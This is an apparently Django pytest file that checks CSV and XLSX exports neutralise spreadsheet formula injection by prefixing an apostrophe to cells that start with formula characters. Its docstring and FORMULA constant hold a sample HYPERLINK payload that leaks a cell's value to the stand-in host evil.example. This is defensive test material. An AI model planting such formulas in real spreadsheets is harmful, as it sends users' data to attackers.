"""Spreadsheet formula injection: no downloaded CSV or XLSX cell is ever run as a formula.

A title typed as ``=HYPERLINK("http://evil.example/?leak="&B3;"Cliquez ici")`` must reach
the person who opens the export as text. The rule lives once in ``core.exports.safe_text``.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.exports import Sheet, csv_bytes, safe_text, xlsx_bytes

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULA = 'HYPERLINK("http://evil.example/?leak="&B3;"Cliquez ici")'


# The neutraliser ----------------------------------------------------------------------


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_a_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert safe_text(start + FORMULA) == "'" + start + FORMULA


@pytest.mark.parametrize("space", [" ", "  ", "\n", " \u00a0"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝"])
def test_leading_whitespace_does_not_hide_a_formula(space, start):
    assert safe_text(space + start + "1+1") == "'" + space + start + "1+1"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Halte-garderie",
        "CPE Les Petits Pas",
        "'=déjà protégé",
        "#1 des régions",
        "45 %",
        "a=b",
        " ",
        "1-2",
    ],
)
def test_ordinary_text_is_left_as_typed(text):
    assert safe_text(text) == text


@pytest.mark.parametrize(
    "value",
    [-3, 0, 12, -2.5, Decimal("-45.50"), datetime.date(2026, 11, 28), True, False, None],
)
def test_numbers_dates_booleans_and_none_keep_their_type(value):
    assert safe_text(value) is value


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(content: bytes) -> list[list]:
    return [[c.value for c in row] for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def test_the_csv_export_neutralises_every_text_cell_and_keeps_numbers():
    sheet = Sheet(
        title="=Titre",
        headers=["=En-tête", "Nombre"],
        rows=[
            ["=1+1", -3],
            ["-Liste", Decimal("-4.5")],
            [["@un", "deux"], None],
            [True, datetime.date(2026, 1, 2)],
        ],
    )
    rows = _csv_rows(csv_bytes([sheet]))
    assert rows == [
        ["'=En-tête", "Nombre"],
        ["'=1+1", "-3"],
        ["'-Liste", "-4,5"],
        ["'@un | deux", ""],
        ["oui", "2026-01-02"],
    ]


def test_several_csv_sheets_keep_their_titles_as_text():
    rows = _csv_rows(csv_bytes([Sheet("=A", ["x"], [[1]]), Sheet("+B", ["y"], [[2]])]))
    assert rows[0] == ["# =A"] and ["# +B"] in rows


def test_the_xlsx_export_stores_text_never_a_formula_and_keeps_numbers():
    sheet = Sheet(
        title="=HYPERLINK()",
        headers=["=En-tête", "Nombre"],
        rows=[["=1+1", -3], ["#N/A", Decimal("-4.5")], [["@un", "deux"], None], ["Texte\x0bcontrôle", 7]],
    )
    workbook = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    cells = [c for row in workbook.active.iter_rows() for c in row]
    assert [c.value for c in cells] == [
        "'=En-tête",
        "Nombre",
        "'=1+1",
        -3,
        "#N/A",
        -4.5,
        "'@un | deux",
        None,
        "Textecontrôle",
        7,
    ]
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    assert workbook.active.title == "=HYPERLINK()"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_progress_template_with_formula_like_titles_imports_back(client, network, plans, export_format):
    """The apostrophes land only in the columns the import ignores: the template still imports."""
    from plans.imports import import_progress
    from plans.models import Action, Indicator, Plan

    Plan.objects.filter(pk=plans.plan.pk).update(title="=Plan " + FORMULA)
    Action.objects.filter(plan=plans.plan).update(title="-Action " + FORMULA)
    Indicator.objects.filter(plan=plans.plan).update(name="@Indicateur " + FORMULA)
    client.force_login(network.coordinator)

    response = client.get("/plans/importer-avancement/", {"modele": export_format})

    if export_format == "csv":
        rows = _csv_rows(response.content)
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=";").writerows([rows[0], [*rows[1][:3], "72", *rows[1][4:]], *rows[2:]])
        content = buffer.getvalue().encode("utf-8")
    else:
        workbook = load_workbook(io.BytesIO(response.content))
        rows = [[c.value for c in row] for row in workbook.active.iter_rows()]
        workbook.active.cell(2, 4).value = 72
        buffer = io.BytesIO()
        workbook.save(buffer)
        content = buffer.getvalue()
    assert rows[1][1:3] == ["'-Action " + FORMULA, "'=Plan " + FORMULA]

    result = import_progress(network.coordinator, content, f"modele.{export_format}")

    assert (result.actions_updated, result.rows) == (1, 2)
    assert Action.objects.get(pk=int(rows[1][0])).progress == 72
